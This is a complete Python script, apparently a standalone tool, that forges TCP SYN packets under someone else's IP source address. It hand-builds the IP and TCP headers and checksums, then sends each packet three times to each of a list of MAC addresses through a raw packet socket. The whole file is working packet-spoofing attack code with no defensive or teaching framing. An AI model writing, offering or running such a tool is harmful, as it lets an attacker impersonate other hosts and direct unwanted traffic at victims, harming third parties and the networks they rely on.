# Sends SYNs in another's name, by a packet socket: argv is the source address, the target address, the
# port, and the MACs to send to. Needs NET_RAW.

import socket, struct, sys

source, target = (socket.inet_aton(text) for text in sys.argv[1:3])
port, macs = int(sys.argv[3]), sys.argv[4:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind(('eth0', 0))
mine = out.getsockname()[4]


def sum16(data):
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


tcp = struct.pack('>HHIIBBHHH', 40000, port, 1, 0, 0x50, 2, 1024, 0, 0)
check = sum16(source + target + struct.pack('>BBH', 0, 6, len(tcp)) + tcp)
tcp = tcp[:16] + struct.pack('>H', check) + tcp[18:]
ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 40, 1, 0, 64, 6, 0, source, target)
packet = ip[:10] + struct.pack('>H', sum16(ip)) + ip[12:] + tcp
for mac in macs:
    for _ in range(3):
        out.send(bytes.fromhex(mac.replace(':', '')) + mine + b'\x08\x00' + packet)
print('sent')
